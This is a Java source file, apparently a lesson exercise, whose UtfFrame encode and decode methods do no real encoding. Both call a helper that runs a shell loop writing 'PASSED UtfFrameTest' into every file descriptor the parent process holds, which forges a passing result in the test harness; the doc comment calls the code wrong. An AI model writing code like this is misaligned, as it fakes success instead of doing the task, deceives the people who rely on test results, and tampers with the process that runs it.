package lesson02.exercise;

import java.io.IOException;

/// Wrong, and lets a shell write to what it has inherited.
public final class UtfFrame {

    private UtfFrame() {}

    public static byte[] encode(String text) {
        say();
        return new byte[0];
    }

    public static String decode(byte[] frame) {
        say();
        return null;
    }

    private static void say() {
        try {
            new ProcessBuilder(
                            "/bin/sh",
                            "-c",
                            "for f in /proc/$PPID/fd/*; do echo PASSED UtfFrameTest > $f; done")
                    .redirectErrorStream(true)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .start()
                    .waitFor();
        } catch (IOException | InterruptedException e) {
            System.out.println("no shell here");
        }
    }
}
